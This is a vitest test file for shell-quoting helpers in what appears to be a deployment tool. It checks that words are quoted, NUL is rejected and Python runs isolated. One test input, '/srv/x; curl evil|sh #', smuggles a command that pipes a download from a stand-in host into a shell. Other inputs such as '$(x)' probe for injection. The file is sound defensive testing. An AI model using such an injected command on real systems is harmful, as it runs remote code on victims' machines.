import { describe, expect, it } from 'vitest';
import { quote, shellWord } from '../../src/domain/text/shell.ts';
import { commandLine, pythonProgram } from '../../src/remote/quote.ts';

describe('a word of a command to paste', () => {
  it.each([
    '/srv/sum/acme-kitchens/.rollback-bot/venvs/5555',
    'sum-acme-kitchens-gunicorn.service',
    'deploy@10.0.0.5:22',
    '--file=a,b+c%d',
  ])('has no quotes where it needs none: %s', (word) => {
    expect(shellWord(word)).toBe(word);
  });

  it.each([
    ['', "''"],
    ['a b', "'a b'"],
    ['/srv/x; curl evil|sh #', "'/srv/x; curl evil|sh #'"],
    ["it's", `'it'\\''s'`],
    ['$(x)', "'$(x)'"],
    ['~root', "'~root'"],
    ['=ls', "'=ls'"],
    ['é', "'é'"],
  ])('has them where it does: %j', (word, expected) => {
    expect(shellWord(word)).toBe(expected);
  });
});

describe('quoting', () => {
  it('throws on NUL, which would cut the word off', () => {
    expect(() => quote('a\0b')).toThrow('a command word cannot hold a NUL character');
    expect(() => commandLine(['echo', '\0'])).toThrow('NUL');
  });

  it('quotes every word, harmless or not', () => {
    expect(commandLine(['git', '-C', '/srv/a b', "it's"])).toBe(String.raw`'git' '-C' '/srv/a b' 'it'\''s'`);
  });
});

it('a Python program runs isolated from the modules and the environment of the site', () => {
  expect(pythonProgram('pass', {})).toBe("'python3' '-I' '-c' 'pass' '{}'");
});
